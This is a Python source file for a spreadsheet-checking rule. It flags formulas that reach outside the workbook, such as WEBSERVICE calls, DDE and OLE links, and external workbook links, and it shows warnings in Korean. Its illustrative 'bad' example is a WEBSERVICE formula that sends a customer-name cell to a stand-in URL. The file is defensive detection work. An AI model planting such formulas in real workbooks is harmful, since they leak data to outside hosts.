"""Formulas that reach for something outside their workbook, as findings."""

from __future__ import annotations

import re
from collections import defaultdict
from typing import TYPE_CHECKING, Final

from xlcrm.cellref import CellRef, parse_a1
from xlcrm.domain.formula_text import is_outside, reaches
from xlcrm.domain.text import lazy
from xlcrm.ooxml.markup import text_of
from xlcrm.ooxml.rows import frame_of
from xlcrm.ooxml.workbook import defined_names
from xlcrm.schema.code import rule
from xlcrm.schema.finding import Severity
from xlcrm.workbook.unread import CELL

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from xlcrm.ooxml.package import Package, SheetEntry
    from xlcrm.workbook.read import Book, Sheet

_FORMULAS: Final = lazy(rb"<(?:\w+:)?f(?:\s[^<>]*)?>([^<]+)<")
_CELL_FORMULAS: Final = lazy(CELL + rb"[^<>]*>\s*<(?:\w+:)?f(?:\s[^<>]*)?>([^<]+)<", re.DOTALL)
_BOOK: Final = lazy(r"\[(\d{1,4})\]")  # how a formula names another workbook
_LIVE: Final = lazy(rb"<(?:\w+:)?(ddeLink|oleLink)\b")

_SIGNS: Final = ((b"f",), (b"<f", b":f"))  # one sign is found many times faster than two

_Found = tuple[str, CellRef, dict[str, object]]


@rule(
    "C220",
    Severity.WARNING,
    "밖으로 나가는 수식",
    "이 파일 밖으로 나가는 수식({item})이 {count}개 있습니다.",
    "누가 왜 넣었는지 확인하세요. 사무실이 넣은 것이 아니면 그 칸을 지우거나 값으로 바꾸고, 엑셀이 "
    "'연결 업데이트'나 '콘텐츠 사용'을 물으면 허용하지 마세요.",
    why="이런 수식은 다른 프로그램을 시작하거나, 칸에 적힌 것을 인터넷 주소에 붙여 내보낼 수 "
    "있습니다. 신청서나 받은 파일의 값에 섞여 들어오기도 합니다. 사무실이 일부러 쓰는 것이면 "
    "설정에서 이 코드를 끌 수 있습니다.",
    bad=("고객명 | 비고", '가온상사 | =WEBSERVICE("http://example.com/?"&A2) → 가'),
    good=("고객명 | 비고", "가온상사 | 가"),
)
def reaching_out(
    book: Book, entry: SheetEntry, data: bytes, tables: Sequence[Sheet]
) -> Iterator[_Found]:
    """C220: what a sheet's formulas reach for, once each, at the first that does.

    A HYPERLINK counts only in the columns of tables that are read.
    """
    frame = frame_of(data)  # conditional formats have formulas, too, and stand behind it
    if any(all(data.find(sign, frame.begin, frame.end) < 0 for sign in each) for each in _SIGNS):
        return
    live = dict(_links(book.package))
    ways = {}
    for text in {*_FORMULAS.findall(data)}:
        formula = text_of(text)
        found = [*reaches(formula)] if _may_reach(text) else []
        found += [live[match] for match in _BOOK.findall(formula) if match in live]
        if found:
            ways[text] = found
    if not ways:
        return
    read = [
        (set(sheet.table.rows), {each.number for each in sheet.table.columns.values()})
        for sheet in tables
    ]
    places = defaultdict(list)
    for cell, text in _CELL_FORMULAS.findall(data):
        row, column = parse_a1(cell.decode())
        theirs = any(row in rows and column in columns for rows, columns in read)
        for way in dict.fromkeys(ways.get(text, ())):
            if way != "HYPERLINK" or theirs:
                places[way].append((row, column))
    for way, cells in places.items():
        yield "C220", CellRef(entry.name, *min(cells)), {"item": way, "count": f"{len(cells):,}"}


def names_reaching(book: Book) -> Iterator[_Found]:
    """C220 of the names of a workbook, and of its links that no cell uses."""
    package = book.package
    live = dict(_links(package))
    ways = [
        way
        for _, formula in defined_names(package.markup(package.workbook_part))
        for way in (
            *(each for each in reaches(formula) if each != "HYPERLINK"),
            *(live[match] for match in _BOOK.findall(formula) if match in live),
        )
    ]
    first = next(iter(package.worksheets)).name
    for way in dict.fromkeys(ways):
        yield "C220", CellRef(first, 1, 1), {"item": f"이름의 {way}", "count": f"{ways.count(way)}"}


def _may_reach(text: bytes) -> bool:
    return b"(" in text or b"|" in text


def _links(package: Package) -> Iterator[tuple[str, str]]:
    """The numbers of linked workbooks that are programs, or lie on another machine."""
    links = [*package.related(package.workbook_part, "externalLink")]
    for number, part in enumerate(links, 1):
        if part not in package:
            continue
        if _LIVE.search(package.part(part)):
            yield str(number), "DDE"
        elif any(is_outside(each.target) for each in package.relationships(part) if each.external):
            yield str(number), "외부 연결"
